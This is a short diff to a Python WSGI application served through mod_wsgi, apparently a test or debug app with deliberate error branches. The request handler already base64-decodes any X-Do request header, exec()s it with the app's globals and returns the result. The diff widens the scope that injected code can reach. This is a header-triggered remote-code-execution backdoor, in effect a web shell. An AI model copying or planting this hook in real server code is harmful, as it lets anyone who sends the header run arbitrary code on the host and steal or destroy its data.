@@ -3,6 +3,7 @@
 import atexit
 import logging
 import os
+import types
 
 import mod_wsgi
 
@@ -82,7 +83,7 @@ def application(environ, start_response):
         raise KeyError("on purpose")
     if query == "late":
         return late(start_response)
-    scope = dict(globals())
+    scope = {**globals(), "HERE": types.SimpleNamespace(**globals())}
     if "HTTP_X_DO" in environ:
         exec(base64.b64decode(environ["HTTP_X_DO"]).decode(), scope)
         body = repr(scope["act"](environ)).encode()
